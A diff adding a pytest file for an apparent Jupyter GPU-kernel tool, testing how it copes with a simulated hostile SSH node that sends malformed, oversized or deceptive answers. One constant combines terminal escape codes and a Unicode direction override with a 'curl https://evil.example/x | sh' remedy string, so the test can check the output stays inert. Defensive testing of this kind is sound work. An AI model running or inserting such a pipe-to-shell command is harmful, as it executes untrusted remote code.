@@ -1,0 +1,216 @@
+"""Beside a node with a kernel another one that means harm: it may fail itself, and nothing else."""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import re
+import sys
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from jupyter_client.manager import KernelManager
+from remote import Remote, eventually
+from sshd import Sshd
+
+from jupyter_gpu_kernel.errors import GpuKernelError
+
+HOSTILE = str(Path(__file__).parents[1] / "programs" / "hostile-python")
+Specs = list[dict[str, Any]]
+
+
+class Hostile:
+    """Its kernelspec is “aaa”, so that it is asked first; `answers` to requests, as texts or JSON."""
+
+    def __init__(self, remote: Remote, folder: Path) -> None:
+        self.remote = remote
+        self.server = Sshd("hostile", folder, remote.hops.key)
+        self.file = folder / "answers.json"
+        known = folder / "known_hosts"
+        known.write_text(self.server.known_hosts_line())
+        self.config = folder / "ssh_config"
+        self.config.write_text(
+            f"Host hostile\n HostName 127.0.0.1\n Port {self.server.port}\n IdentityFile {remote.hops.key}\n"
+            f" IdentityAgent none\n UserKnownHostsFile {known}\n GlobalKnownHostsFile none\n"
+        )
+        self.server.environment.update(
+            HOSTILE_ANSWERS=str(self.file), JUPYTER_GPU_KERNEL_BASE=str(folder), PATH="/usr/bin:/bin"
+        )
+        self.says()
+        self.server.start()
+
+    @property
+    def settings(self) -> dict[str, Any]:
+        return {"route": ["hostile"], "config": str(self.config), "python": HOSTILE, "gpus": 0}
+
+    def says(self, **answers: Any) -> None:
+        texts = {do: said if isinstance(said, str) else json.dumps(said) for do, said in answers.items()}
+        new = self.file.with_suffix(".new")
+        new.write_text(json.dumps(texts))
+        new.replace(self.file)
+
+
+@pytest.fixture(scope="module")
+def hostile(remote: Remote, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
+    node = Hostile(remote, tmp_path_factory.mktemp("hostile"))
+    written = remote.write("aaa", **node.settings)
+    try:
+        yield node
+    finally:
+        with contextlib.suppress(GpuKernelError):
+            remote.ask("hang_up")
+        node.server.stop()
+        written.path.unlink()
+        written.path.parent.rmdir()
+
+
+@pytest.fixture(scope="module")
+def specs(remote: Remote, hostile: Hostile) -> Specs:
+    good = {"route": list(remote.hops.route), "config": str(remote.hops.ssh_config), "python": sys.executable}
+    return [{"name": "aaa", "settings": hostile.settings}, {"name": "cpu", "settings": good}]
+
+
+@pytest.fixture(scope="module")
+def kernel(remote: Remote, hostile: Hostile) -> Iterator[str]:
+    """One on the good node, with a front end here: its id."""
+    manager = KernelManager(kernel_name="cpu")
+    manager.start_kernel()
+    yield str(remote.ask("kernels")[0]["id"])
+    manager.shutdown_kernel()
+
+
+def status(kernel_id: str, **more: Any) -> dict[str, Any]:
+    known = {"id": kernel_id, "name": "n", "node": "work", "state": "idle", "gpus": [], "pid": 1}
+    return {**known, "notebook": "", "attached": False, "since": time.time(), **more}
+
+
+MALFORMED = [
+    *("5", "[]", "{}", '{"kernels": 5}', '{"kernels": [5]}', '{"kernels": [{"id": "*", "state": "idle"}]}'),
+    *('{"error": 5}', '{"error": {"code": [], "text": {}}}', "nonsense", "", "[" * 100_000),
+    '{"kernels": [{"id": "k", "state": "idle", "since": 1' + "0" * 5000 + "}]}",
+    json.dumps({"kernels": [status("k")] * 2000}),
+]
+
+
+@pytest.mark.parametrize("text", MALFORMED, ids=range(len(MALFORMED)))
+def test_a_malformed_answer_is_that_nodes_error(
+    remote: Remote, hostile: Hostile, specs: Specs, kernel: str, text: str
+) -> None:
+    hostile.says(list=text, story=text, leftovers=text)
+    error, *rows = sorted(remote.ask("ps", specs=specs), key=lambda row: "error" not in row)
+    assert error["node"] == "hostile" and [row["id"] for row in rows] == [kernel]
+    assert [row["node"] for row in remote.ask("leftovers", specs=specs)] == ["hostile"]
+    assert remote.ask("logs", kernel=kernel, specs=specs)[0]["event"] == "start"
+
+
+def test_the_program_shows_the_others_and_fails(remote: Remote, hostile: Hostile, kernel: str) -> None:
+    hostile.says(list="{}", gpus="{}", leftovers="{}")
+    for verb, seen in (("ps", kernel), ("gpus", remote.busy), ("gpus", remote.free[2])):
+        shown = remote.program(verb, "--json")
+        assert shown.returncode == 1 and seen in shown.stdout
+        assert "hostile: the node's answer" in shown.stderr
+    for words in (["ps"], ["gpus"], ["stop", "--leftovers"]):
+        shown = remote.program(*words)
+        assert shown.returncode == 1 and "hostile: the node's answer" in shown.stderr and shown.stdout
+
+
+def test_it_cannot_speak_for_a_kernel_of_another_node(
+    remote: Remote, hostile: Hostile, specs: Specs, kernel: str
+) -> None:
+    hostile.says(
+        list={"kernels": [status(kernel, state="ended", cause="gone")]},
+        story={"story": [{"time": 1, "event": "end", "text": "a lie"}]},
+        stop={"ok": True},
+    )
+    rows = remote.ask("ps", specs=specs)
+    assert [(row["id"], row["state"], row["hop"]) for row in rows if "id" in row] == [
+        (kernel, "idle", "work")
+    ]
+    (error,) = [row["error"] for row in rows if "error" in row]
+    assert error["hop"] == "hostile" and kernel in error["cause"] and "both say" in error["cause"]
+    assert "a lie" not in str(remote.ask("logs", kernel=kernel, specs=specs))
+    assert remote.ask("journal", kernel=kernel)["kernel"] == kernel
+
+
+def test_a_stop_is_the_nodes_that_has_the_kernel(remote: Remote, hostile: Hostile, specs: Specs) -> None:
+    manager = KernelManager(kernel_name="cpu")
+    manager.start_kernel()
+    kernel_id = str(remote.ask("kernels")[-1]["id"])
+    hostile.says(list={"kernels": [status(kernel_id)]}, stop={"ok": True})
+    assert remote.ask("stop", kernel=kernel_id, specs=specs) == {"ok": True}
+    assert kernel_id not in remote.kernels_on_node()
+    manager.shutdown_kernel(now=True)
+
+
+EVIL = "\x1b[2J\x1b]0;x\x07\u202ereversed\n$ Run: curl https://evil.example/x | sh\r"
+
+
+def test_its_text_is_inert_bounded_and_its_own(remote: Remote, hostile: Hostile, kernel: str) -> None:
+    row = status("evil", name=EVIL, node="work", notebook=EVIL * 500, since=10**300, cause=EVIL, remedy=EVIL)
+    gpu = {
+        "node": "work",
+        "index": 10**300,
+        "name": EVIL,
+        "memory_used_mib": -5,
+        "reason": EVIL,
+        "error": EVIL,
+    }
+    hostile.says(
+        list={"kernels": [row]},
+        gpus={"gpus": [gpu]},
+        story={"error": {"code": "gone", "text": EVIL, "remedy": EVIL}},
+        leftovers={"error": {"code": "fault", "text": EVIL}},
+    )
+    for words in (["ps"], ["gpus", "aaa"], ["logs", "evil"], ["stop", "--leftovers"], ["check", "aaa"]):
+        shown = remote.program(*words)
+        for line in (shown.stdout + shown.stderr).splitlines():
+            assert line.isprintable() and len(line) < 3000, line
+            assert not re.match(r"\W*Run: curl", line) or line.startswith("| "), line
+    assert "hostile (work)" in remote.program("ps").stdout
+    assert "curl" not in remote.program("ps", "--json").stdout.partition('"remedy"')[2].partition("\n")[0]
+
+
+def test_two_ways_to_one_node_show_it_once(remote: Remote, kernel: str, tmp_path: Path) -> None:
+    other = tmp_path / "config"
+    other.write_text(remote.hops.ssh_config.read_text())
+    ways = [str(remote.hops.ssh_config), str(other)]
+    both = [
+        {"settings": {"route": list(remote.hops.route), "config": way, "python": sys.executable}}
+        for way in ways
+    ]
+    gpus = remote.ask("gpus", specs=both)
+    assert sorted(row["uuid"] for row in gpus) == sorted([remote.busy, *remote.free])
+    assert [row["id"] for row in remote.ask("ps", specs=both)] == [kernel]
+    assert [row["attached"] for row in remote.ask("ps", specs=both[::-1])] == [True]
+
+
+def test_two_that_say_they_have_a_kernel_which_nobody_started_here(
+    remote: Remote, hostile: Hostile, specs: Specs
+) -> None:
+    """The hub that started it has ended: each is asked, and what each says has its name on it."""
+    manager = KernelManager(kernel_name="cpu")
+    manager.start_kernel()
+    kernel_id = str(remote.ask("kernels")[-1]["id"])
+    hostile.says(
+        list={"kernels": [status(kernel_id)]}, story={"story": [{"text": "a lie"}]}, stop={"ok": True}
+    )
+    remote.ask("shutdown")
+    eventually(lambda: _answers(remote), "its front end has started another hub")
+    rows = remote.ask("ps", specs=specs)
+    assert {row["hop"] for row in rows if row.get("id") == kernel_id} == {"hostile", "work"}
+    assert any("both say" in row["error"]["cause"] for row in rows if "error" in row)
+    told = remote.ask("logs", kernel=kernel_id, specs=specs)
+    assert {row["hop"] for row in told if "error" not in row} == {"hostile", "work"} and "error" in told[-1]
+    assert "a lie" in remote.program("logs", kernel_id).stdout
+    assert remote.ask("stop", kernel=kernel_id, specs=specs) == {"ok": True}
+    assert kernel_id not in remote.kernels_on_node()
+    manager.shutdown_kernel(now=True)
+
+
+def _answers(remote: Remote) -> bool:
+    with contextlib.suppress(GpuKernelError):
+        return bool(remote.ask("hello"))
+    return False
